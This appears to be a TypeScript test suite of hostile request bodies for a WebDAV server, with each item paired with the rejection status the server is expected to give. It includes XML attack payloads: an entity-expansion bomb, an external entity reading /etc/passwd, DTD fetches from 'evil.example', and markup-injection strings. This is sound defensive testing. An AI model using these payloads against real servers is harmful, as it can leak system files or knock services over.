// Bodies: XML made to hurt its reader or to mean something else than it says, and uploads that are not what they claim.
import { gzipSync } from 'node:zlib';
import {
  ask,
  FIXTURE,
  type Hostile,
  hostile,
  type Line,
  SCRATCH,
  send,
  sendChunked,
  utf8,
} from './request.ts';

const HEAD = '<?xml version="1.0" encoding="utf-8"?>';
const PROPFIND = '<propfind xmlns="DAV:"><prop><getetag/></prop></propfind>';
const find = (body: string, ...headers: readonly string[]): string =>
  send('PROPFIND /dav/', body, 'Depth: 0', ...headers);

/** Utf-16 as bytes, most significant first. */
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').swap16().toString('latin1');

const BOMB = `${HEAD}<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">${Array.from(
  { length: 9 },
  (_, n) => `<!ENTITY a${n} "${`&a${n || ''};`.repeat(10)}">`,
).join('')}]><propfind xmlns="DAV:"><prop>&a8;</prop></propfind>`;
const EXTERNAL = `${HEAD}<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><propfind xmlns="DAV:"><prop>&x;</prop></propfind>`;

/** Wrong for every method that takes XML; the rest is about one of them. */
const MALFORMED: ReadonlyArray<readonly [string, string]> = [
  ['a bomb of entities', BOMB],
  ['an external entity', EXTERNAL],
  ['a parameter entity', `${HEAD}<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>`],
  ['a document type alone', `${HEAD}<!DOCTYPE propfind><propfind xmlns="DAV:"><allprop/></propfind>`],
  ['an external document type', `${HEAD}<!DOCTYPE propfind SYSTEM "http://evil.example/x.dtd">${PROPFIND}`],
  ['10,000 levels', `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`],
  ['80 levels', `${'<a>'.repeat(80)}${'</a>'.repeat(80)}`],
  ['10,000 open tags', '<a '.repeat(10_000)],
  ['1,000 attributes', `<a ${Array.from({ length: 1000 }, (_, n) => `a${n}=""`).join(' ')}/>`],
  ['30,000 elements', `<a>${'<b/>'.repeat(30_000)}</a>`],
  ['a namespace of 100,000 letters left open', `<a xmlns="${'x'.repeat(100_000)}`],
  ['text', 'this is no XML'],
  ['JSON', '{"propfind":{"allprop":{}}}'],
  ['a form', 'propfind=allprop'],
  ['HTML', '<html><body><p>Hello<br></body></html>'],
  ['one space', ' '],
  ['a null byte', '\0'],
  ['a declaration alone', HEAD],
  ['a comment alone', '<!-- propfind -->'],
  ['a tag left open', '<propfind xmlns="DAV:"><allprop/>'],
  ['tags crossed', '<propfind xmlns="DAV:"><prop><allprop></prop></allprop></propfind>'],
  ['two roots', `${PROPFIND}${PROPFIND}`],
  ['text after the root', `${PROPFIND}text`],
  ['a prefix that is not declared', '<D:propfind><D:allprop/></D:propfind>'],
  ['a prefix taken back', '<D:propfind xmlns:D="DAV:"><D:prop xmlns:D=""><D:x/></D:prop></D:propfind>'],
  ['an empty prefix', '<:propfind xmlns="DAV:"><allprop/></:propfind>'],
  ['the prefix xmlns', '<xmlns:propfind xmlns="DAV:"/>'],
  ['the prefix xml in another namespace', '<propfind xmlns="DAV:" xmlns:xml="urn:x"><allprop/></propfind>'],
  ['an entity that is not declared', '<propfind xmlns="DAV:"><prop>&nbsp;</prop></propfind>'],
  ['the character of number 0', '<propfind xmlns="DAV:"><prop>&#0;</prop></propfind>'],
  ['a surrogate by number', '<propfind xmlns="DAV:"><prop>&#xD800;</prop></propfind>'],
  ['a control character', '<propfind xmlns="DAV:"><prop>\x01</prop></propfind>'],
  ['a duplicate attribute', '<propfind xmlns="DAV:" a="" a=""><allprop/></propfind>'],
  ['an attribute without quotes', '<propfind xmlns="DAV:" a=b><allprop/></propfind>'],
  ['an attribute with an angle bracket', '<propfind xmlns="DAV:" a="<"><allprop/></propfind>'],
  ['an end of CDATA alone', '<propfind xmlns="DAV:"><prop>]]></prop></propfind>'],
  ['a declaration in the middle', `<propfind xmlns="DAV:">${HEAD}<allprop/></propfind>`],
  ['UTF-8 that is none', '<propfind xmlns="DAV:"><prop>\xff\xfe</prop></propfind>'],
  ['overlong UTF-8', '<propfind xmlns="DAV:"><prop>\xc0\xbcx/></prop></propfind>'],
  [
    'Latin-1',
    '<?xml version="1.0" encoding="iso-8859-1"?><propfind xmlns="DAV:"><prop>\xe9</prop></propfind>',
  ],
  ['UTF-16 without a mark', utf16(PROPFIND)],
  ['half of UTF-16', `\xfe\xff${utf16(PROPFIND)}\0`],
  ['UTF-7', '<?xml version="1.0" encoding="utf-7"?>+ADw-propfind xmlns=+ACI-DAV:+ACI-/+AD4-'],
  ['gzip', gzipSync(PROPFIND).toString('latin1')],
];

const XML: readonly Line[] = [
  ...['PROPFIND /dav/', 'PROPPATCH /dav/file.txt', `LOCK ${SCRATCH}never`].flatMap((target): Line[] =>
    MALFORMED.map(([about, body]) => [
      `${about}, to ${target.split(' ', 1)[0]}`,
      send(target, body, 'Content-Type: application/xml'),
      400,
    ]),
  ),
  ...['PROPFIND /dav/', 'PROPPATCH /dav/file.txt', `LOCK ${SCRATCH}never`].flatMap((target): Line[] => [
    [`300 KB, to ${target.split(' ', 1)[0]}`, send(target, `<a>${'x'.repeat(300_000)}</a>`), 413],
    [
      `300 KB in a chunk, to ${target.split(' ', 1)[0]}`,
      sendChunked(target, `<a>${'x'.repeat(300_000)}</a>`),
      413,
    ],
    [
      `more than is to come, to ${target.split(' ', 1)[0]}`,
      `${ask(target, 'Content-Length: 500')}${PROPFIND}`,
      /^(|400)$/,
      { ending: 'end' },
    ],
  ]),
  ['nothing left behind by a LOCK', ask(`GET ${SCRATCH}never`), 404],
];

const PROPFINDS: readonly Line[] = [
  ['another root', find('<propertyupdate xmlns="DAV:"><allprop/></propertyupdate>'), 400],
  ['no namespace', find('<propfind><allprop/></propfind>'), 400],
  ['another namespace', find('<propfind xmlns="DAV"><allprop/></propfind>'), 400],
  ['another case', find('<PROPFIND xmlns="DAV:"><allprop/></PROPFIND>'), 400],
  ['nothing in it', find('<propfind xmlns="DAV:"/>'), 400],
  ['text in it', find('<propfind xmlns="DAV:">allprop</propfind>'), 400],
  ['something unknown in it', find('<propfind xmlns="DAV:"><everything/></propfind>'), 400],
  ['two questions', find('<propfind xmlns="DAV:"><allprop/><propname/></propfind>'), 400],
  ['one question twice', find('<propfind xmlns="DAV:"><prop/><prop/></propfind>'), 400],
  [
    '2,000 properties',
    find(
      `<propfind xmlns="DAV:"><prop>${Array.from({ length: 2000 }, (_, n) => `<a${n}/>`).join('')}</prop></propfind>`,
    ),
    400,
  ],
  [
    'one property 2,000 times',
    find(`<propfind xmlns="DAV:"><prop>${'<a/>'.repeat(2000)}</prop></propfind>`),
    207,
  ],
  ['no property', find('<propfind xmlns="DAV:"><prop/></propfind>'), 207],
  ['an unknown element beside', find('<propfind xmlns="DAV:"><x xmlns="urn:x"/><allprop/></propfind>'), 207],
  ['UTF-16 with its mark', find(`\xfe\xff${utf16(PROPFIND)}`), 207],
  ['UTF-8 with its mark', find(`\xef\xbb\xbf${HEAD}${PROPFIND}`), 207],
  [
    'CDATA, comments, instructions',
    find(`${HEAD}<!-- a --><?php b ?><propfind xmlns="DAV:"><![CDATA[c]]><allprop/></propfind>`),
    207,
  ],
  ['JSON wanted', find(PROPFIND, 'Accept: application/json'), 207, { body: /^<\?xml/ }],
  ['another content type', find(PROPFIND, 'Content-Type: application/json'), 207],
  [
    'names to break out of the answer with',
    find('<propfind xmlns="DAV:"><prop><x xmlns="&lt;/D:prop>&quot;&amp;"/></prop></propfind>'),
    207,
    { body: /xmlns:?\w*="&lt;\/D:prop(?:>|&gt;)&quot;&amp;"/ },
  ],
];

const update = (...parts: readonly string[]): string =>
  `<propertyupdate xmlns="DAV:">${parts.join('')}</propertyupdate>`;
const set = (property: string): string => `<set><prop>${property}</prop></set>`;
const patch = (body: string): string => send('PROPPATCH /dav/file.txt', body);
const patchScratch = (body: string): string => send(`PROPPATCH ${SCRATCH}`, body);
const A = '<a xmlns="urn:k">a</a>';

const PROPPATCHES: readonly Line[] = [
  ['nothing', ask('PROPPATCH /dav/file.txt', 'Content-Length: 0'), 400],
  ['another root', patch(PROPFIND), 400],
  ['no namespace', patch('<propertyupdate><set><prop><a/></prop></set></propertyupdate>'), 400],
  ['nothing to set or remove', patch(update()), 400],
  ['something else to do', patch(update('<replace><prop><a/></prop></replace>')), 400],
  ['a set without a prop', patch(update('<set/>')), 400],
  ['a remove without a prop', patch(update('<remove/>')), 400],
  ['a set with something else', patch(update('<set><allprop/></set>')), 400],
  ['a set without a prop behind one with', patch(update(set(A), '<set/>')), 400],
  [
    '2,000 properties',
    patch(update(...Array.from({ length: 2000 }, (_, n) => set(`<a${n} xmlns="urn:k"/>`)))),
    400,
  ],
  ['a resource that is not there', send('PROPPATCH /dav/nothing', update(set(A))), 404],
  ['a path through a file', send('PROPPATCH /dav/file.txt/x', update(set(A))), /^40[49]$/],
  ['a file with a slash', send('PROPPATCH /dav/file.txt/', update(set(A))), 404],
  ...[
    'getetag',
    'getcontentlength',
    'resourcetype',
    'lockdiscovery',
    'supportedlock',
    'quota-used-bytes',
  ].map(
    (name): Line => [
      `${name}, which is protected, beside another`,
      patch(update(set(A), set(`<${name}>x</${name}>`))),
      207,
      { body: / 424 [\s\S]* 403 | 403 [\s\S]* 424 / },
    ],
  ),
  [
    'the removal of a protected one',
    patch(update(set(A), '<remove><prop><getetag/></prop></remove>')),
    207,
    { body: / 403 / },
  ],
  ['200 KB of value', patch(update(set(`<a xmlns="urn:k">${'x'.repeat(200_000)}</a>`))), /^(207|413|507)$/],
  [
    'the removal of what is not there',
    patch(update('<remove><prop><gone xmlns="urn:k"/></prop></remove>')),
    207,
    { body: / 200 / },
  ],
  [
    'three sets and two removals',
    patchScratch(
      update(
        set(A),
        set(A),
        '<remove><prop><a xmlns="urn:k"/></prop></remove>',
        set(A),
        '<remove><prop><b xmlns="urn:k"/></prop></remove>',
      ),
    ),
    207,
    { body: / 200 / },
  ],
  [
    'a namespace to break listings with',
    patchScratch(update(set('<a xmlns="&quot;&gt;&lt;/D:prop&gt;&amp;"/>'))),
    207,
    { body: / 200 / },
  ],
  [
    'a value to break listings with',
    patchScratch(
      update(set('<a xmlns="urn:k" b="&lt;&quot;&amp;">&lt;/D:prop&gt;<![CDATA[</D:multistatus>]]></a>')),
    ),
    207,
    { body: / 200 / },
  ],
  ['no namespace for a property', patchScratch(update(set('<a xmlns=""/>'))), 207, { body: / 200 / }],
  [
    'namespaces that end alike',
    patchScratch(update(set('<ab xmlns="urn:k"/>'), set('<b xmlns="urn:ka"/>'))),
    207,
    { body: / 200 / },
  ],
  [
    'names of objects',
    patchScratch(update(set('<__proto__ xmlns=""/><constructor xmlns=""/>'))),
    207,
    { body: / 200 / },
  ],
];

/** After them the listing is asked for: they all have to be in it, and it has to be XML. */
const LISTED: readonly Line[] = [
  [
    'all of them',
    send('PROPFIND /dav/scratch/', '<propfind xmlns="DAV:"><allprop/></propfind>', 'Depth: 0'),
    207,
    { body: /^<\?xml(?!.*<\/D:multistatus>.*<\/D:multistatus>).*<\/D:multistatus>\s*$/s },
  ],
];

const lock = (body: string): string => send('LOCK /dav/file.txt', body);
const info = (...parts: readonly string[]): string => `<lockinfo xmlns="DAV:">${parts.join('')}</lockinfo>`;
const SCOPE = '<lockscope><exclusive/></lockscope>';
const TYPE = '<locktype><write/></locktype>';

const LOCKS: readonly Line[] = [
  ['another root', lock(PROPFIND), 400],
  ['no namespace', lock(info(SCOPE, TYPE).replace(' xmlns="DAV:"', '')), 400],
  ['nothing in it', lock(info()), 400],
  ['no scope', lock(info(TYPE)), 400],
  ['an empty scope', lock(info('<lockscope/>', TYPE)), 400],
  ['both scopes', lock(info('<lockscope><exclusive/><shared/></lockscope>', TYPE)), 400],
  ['a scope twice', lock(info(SCOPE, SCOPE, TYPE)), 400],
  ['an unknown scope', lock(info('<lockscope><local/></lockscope>', TYPE)), /^4(00|22)$/],
  ['no type', lock(info(SCOPE)), 400],
  ['an unknown type', lock(info(SCOPE, '<locktype><transaction/></locktype>')), /^4(00|22)$/],
  ['two owners', lock(info(SCOPE, TYPE, '<owner/>', '<owner/>')), 400],
  ['an owner of 100 KB', lock(info(SCOPE, TYPE, `<owner>${'x'.repeat(100_000)}</owner>`)), /^(400|413|507)$/],
  [
    'an owner to break answers with',
    send(`LOCK ${SCRATCH}owner`, info(SCOPE, TYPE, '<owner><a b="&lt;&quot;">&lt;/D:prop&gt;</a></owner>')),
    /^20[01]$/,
    { body: /&lt;&quot;">&lt;\/D:prop(?:>|&gt;)</ },
  ],
  [
    'an owner in chunks',
    sendChunked(`LOCK ${SCRATCH}chunked`, info(SCOPE, TYPE, '<owner>me</owner>')),
    /^20[01]$/,
  ],
];

const OTHERS: readonly Line[] = [
  ['MKCOL with XML', send('MKCOL /dav/new/', '<mkcol xmlns="DAV:"/>', 'Content-Type: application/xml'), 415],
  ['MKCOL with text', send('MKCOL /dav/new/', 'x'), 415],
  ['MKCOL with a chunk', sendChunked('MKCOL /dav/new/', 'x'), 415],
  [
    'MKCOL with a body that is waited for',
    send('MKCOL /dav/new/', 'x', 'Expect: 100-continue'),
    /^(100 )?415$/,
  ],
  ['MKCOL with an empty chunk, which is none', sendChunked(`MKCOL ${SCRATCH}empty-chunk/`, ''), 201],
  ['UNLOCK with a body', send('UNLOCK /dav/locked.txt', 'x', 'Lock-Token: <urn:x>'), 409],
];

const put = (body: string, ...headers: readonly string[]): string =>
  send('PUT /dav/file.txt', body, ...headers);
const putNew = (name: string, body: string, ...headers: readonly string[]): string =>
  send(`PUT ${SCRATCH}${name}`, body, ...headers);
const ALPHABET = FIXTURE.get('/dav/file.txt') ?? '';

const PATCH_TYPE = 'Content-Type: application/x-sabredav-partialupdate';
const patched = (range: string): string =>
  send('PATCH /dav/file.txt', 'x', PATCH_TYPE, `X-Update-Range: ${range}`);

const UPLOADS: readonly Line[] = [
  ['a part of another whole', put('x', 'Content-Range: bytes 0-0/27'), 400],
  ['a part of a whole that it does not fit into', put('x', 'Content-Range: bytes 26-26/26'), 400],
  ['a part of another length', put('x', 'Content-Range: bytes 5-6/*'), 400],
  ['a part behind the end', put('x', 'Content-Range: bytes 27-27/28'), 400],
  ['a part far behind the end', put('x', 'Content-Range: bytes 999999999999999-999999999999999/*'), 400],
  ['a patch of a part far behind the end', patched('bytes=999999999999999-'), 416],
  ['a patch of numbers without end', patched(`bytes=${'9'.repeat(1000)}-`), 400],
  ['a patch before the beginning', patched('bytes=-999999999999999'), 416],
  ['a patch of two parts', patched('bytes=0-0,2-2'), 400],
  ['a patch in chunks', sendChunked('PATCH /dav/file.txt', 'x', PATCH_TYPE, 'X-Update-Range: append'), 411],
  ['a patch that is longer than it says', patched('bytes=0-1'), 416],
  ['a part that is none', put('x', 'Content-Range: junk'), 400],
  ['a part that says nothing', put('x', 'Content-Range:'), 400],
  ['a part in another unit', put('x', 'Content-Range: lines 1-1/2'), 400],
  ['gzip', put(gzipSync('x').toString('latin1'), 'Content-Encoding: gzip'), 415],
  ['two encodings', put('x', 'Content-Encoding: identity, br'), 415],
  ['no encoding', putNew('identity', 'x', 'Content-Encoding: identity'), /^20[14]$/],
  ['less than expected', sendChunked('PUT /dav/file.txt', 'hello', 'X-Expected-Entity-Length: 10'), 400],
  ['more than expected', sendChunked('PUT /dav/file.txt', 'hello', 'X-Expected-Entity-Length: 2'), 400],
  [
    'less than expected, of a new file',
    sendChunked('PUT /dav/new', 'hello', 'X-Expected-Entity-Length: 10'),
    400,
  ],
  [
    'nothing where something is expected',
    sendChunked('PUT /dav/file.txt', '', 'X-Expected-Entity-Length: 10'),
    400,
  ],
  [
    'what is expected',
    sendChunked(`PUT ${SCRATCH}expected`, 'hello', 'X-Expected-Entity-Length: 5'),
    /^20[14]$/,
  ],
  [
    'a length that is expected and none',
    sendChunked(`PUT ${SCRATCH}unexpected`, 'x', 'X-Expected-Entity-Length: many'),
    /^(20[14]|400)$/,
  ],
  ['a time that is none', putNew('time', 'x', 'X-OC-Mtime: soon'), /^(20[14]|400)$/],
  ['a time before all', putNew('time', 'x', 'X-OC-Mtime: -99999999999'), /^(20[14]|400)$/],
  ['a time after all', putNew('time', 'x', `X-OC-Mtime: ${'9'.repeat(500)}`), /^(20[14]|400)$/],
  ['a time without bounds', putNew('time', 'x', 'X-OC-Mtime: 1e400'), /^(20[14]|400)$/],
  [
    'that time, listed',
    send(`PROPFIND ${SCRATCH}time`, '', 'Depth: 0'),
    207,
    { body: / 20\d\d \d\d:\d\d:\d\d GMT</ },
  ],
  ['an endless type', putNew('type', 'x', `Content-Type: ${'text/'.repeat(1_000)}`), /^(20[14]|400)$/],
  [
    'a type to break listings with',
    putNew('type', 'x', 'Content-Type: text/html"><script>'),
    /^(20[14]|400)$/,
  ],
  ['that type, given back', ask(`HEAD ${SCRATCH}type`), 200],
  ['a wish to hear more, to nothing there', send('PUT /dav/nothing/x', 'x', 'Expect: 100-continue'), 409],
  ['a wish to hear more, to a collection', send('PUT /dav/dir', 'x', 'Expect: 100-continue'), 405],
  ['a wish to hear more, to what is locked', send('PUT /dav/locked.txt', 'x', 'Expect: 100-continue'), 423],
  ['a wish to hear more, that does not hold', put('x', 'Expect: 100-continue', 'If-Match: "x"'), 412],
  ['a wish to hear more', putNew('continue', 'x', 'Expect: 100-continue'), /^100 20[14]$/],
  ['a wish in capitals', putNew('continue', 'x', 'Expect: 100-CONTINUE'), /^100 20[14]$/],
  [
    'a wish to hear more, and nothing to say',
    putNew('continue', '', 'Expect: 100-continue'),
    /^(100 )?20[14]$/,
  ],
  ['another wish', put('x', 'Expect: miracles'), 417],
  ['two wishes', putNew('wishes', 'x', 'Expect: 100-continue, miracles'), /^(100 20[14]|417)$/],
  ['an empty wish', putNew('wish', 'x', 'Expect:'), /^(20[14]|417)$/],
  [
    'a method to write with in a GET',
    ask('GET /dav/file.txt', 'X-HTTP-Method: PUT', 'Range: bytes=0-0'),
    206,
    { body: ALPHABET.charAt(0) },
  ],
  ['a name in UTF-8, escaped', putNew(encodeURIComponent('名'), utf8('名')), 201],
  [
    'a name in it, that many bytes',
    ask(`GET ${SCRATCH}${encodeURIComponent('名')}`),
    200,
    { body: utf8('名') },
  ],
];

export const bodies: ReadonlyMap<string, readonly Hostile[]> = new Map(
  Object.entries({
    XML,
    'PROPFIND bodies': PROPFINDS,
    'PROPPATCH bodies': PROPPATCHES,
    'properties to be listed': LISTED,
    'LOCK bodies': LOCKS,
    'bodies where none belong': OTHERS,
    uploads: UPLOADS,
  }).map(([chapter, lines]) => [chapter, lines.map(hostile)]),
);
